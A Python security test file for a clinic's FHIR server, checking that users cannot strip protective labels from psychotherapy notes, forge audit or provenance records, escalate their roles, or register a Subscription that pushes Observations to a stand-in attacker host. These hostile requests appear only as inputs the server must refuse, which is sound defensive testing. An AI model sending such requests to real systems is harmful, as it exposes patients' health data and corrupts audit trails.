"""Labels, forged records of who did what, and giving oneself more: N14 to N16, for members of the clinic.

https://owasp.org/API-Security/editions/2023/en/0xa3-broken-object-property-level-authorization/
"""

from __future__ import annotations

import json
from typing import Any

from tests.fhir import Client
from tests.people import member
from tests.security.records import alike, pair, put, ref, result

PATCH = {"content-type": "application/json-patch+json"}


async def test_n14_no_client_takes_a_guarding_label_away(fhir: Client) -> None:
    """A label that closes a record is the server's to give: psychotherapy notes stay closed whatever is sent."""
    label = {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "PSYTHPN"}
    await pair(fhir)
    await put(fhir, result("note", "mine", meta={"security": [label]}))
    biller = await member(fhir, "biller")
    token = await fhir.token("user/*.cruds", subject=biller.sub)
    bare = result("note", "mine")
    assert (await fhir.get("/Observation/note", token=token)).status_code in (403, 404)
    assert (await fhir.put("/Observation/note", json=bare, token=token)).status_code in (403, 404)
    patch = [{"op": "remove", "path": "/meta/security"}]
    body: Any = {"content": json.dumps(patch).encode(), "headers": PATCH}
    assert (await fhir.request("PATCH", "/Observation/note", token=token, **body)).status_code in (403, 404)
    meta = {"resourceType": "Parameters", "parameter": [{"name": "meta", "valueMeta": {"security": [label]}}]}
    assert (await fhir.post("/Observation/note/$meta-delete", json=meta, token=token)).status_code in (403, 404)
    alike(
        await fhir.get("/Observation/note", token=token),
        await fhir.get("/Observation/gone", token=token),
        "note",
        "gone",
    )


async def test_n15_nobody_forges_the_record_of_who_did_what(fhir: Client) -> None:
    mine = await pair(fhir)
    event = {
        "resourceType": "AuditEvent",
        "type": {"system": "http://terminology.hl7.org/CodeSystem/audit-event-type", "code": "rest"},
        "recorded": "2026-01-01T00:00:00Z",
        "agent": [{"requestor": True, "who": ref("Patient/mine")}],
        "source": {"observer": {"display": "x"}},
    }
    assert (await mine.send("POST", "/AuditEvent", json=event)).status_code in (403, 405)
    proof = {"resourceType": "Provenance", "target": [ref("Patient/theirs")], "recorded": "2026-01-01T00:00:00Z"}
    proof |= {"agent": [{"who": ref("Practitioner/doc")}]}
    assert (await mine.send("POST", "/Provenance", json=proof)).status_code == 403
    wide = await fhir.token("system/*.cruds")
    assert (await fhir.post("/AuditEvent", json=event, token=wide)).status_code in (403, 405)
    seen = {row[0] for row in await fhir.concord.db.fetch(None, _RIGHTS)}
    assert not seen & {"UPDATE", "DELETE", "TRUNCATE"}, "the server's role may change the audit"


_RIGHTS = """
select privilege_type from information_schema.role_table_grants
where table_name = 'audit' and grantee = current_user
"""


async def test_n16_nobody_gives_oneself_more_than_one_has(fhir: Client) -> None:
    mine = await pair(fhir)
    role = {"resourceType": "PractitionerRole", "id": "x", "practitioner": ref("Practitioner/doc"), "active": True}
    await put(fhir, role)
    front_desk = await member(fhir, "front-desk", "Practitioner/doc")
    token = await fhir.token("user/*.cruds", subject=front_desk.sub)
    before = await fhir.concord.db.fetch(None, "select tenant_id, person_id, role, ended from membership")
    for client_token in (mine.token, token):
        answer = await fhir.put(
            "/PractitionerRole/x", json=role | {"specialty": [{"text": "admin"}]}, token=client_token
        )
        assert answer.status_code in (403, 404), answer.text
        asks = {"resourceType": "Subscription", "status": "requested", "reason": "x", "criteria": "Observation?"}
        asks |= {"channel": {"type": "rest-hook", "endpoint": "https://attacker.example/"}}
        assert (await fhir.post("/Subscription", json=asks, token=client_token)).status_code in (400, 403, 405)
    # Whatever a record says about a role, what a person may do stands elsewhere.
    await fhir.put("/PractitionerRole/x", json=role | {"code": [{"text": "super-admin"}]})
    assert await fhir.concord.db.fetch(None, "select tenant_id, person_id, role, ended from membership") == before
    for path in ("/oauth/register", "/oauth/clients", "/api/clients", "/api/users", "/api/members"):
        place = fhir.base.removesuffix("/fhir") + path
        answer = await fhir.http.post(place, json={}, headers={"authorization": f"Bearer {mine.token}"})
        assert answer.status_code in (401, 403, 404, 405), (path, answer.text)
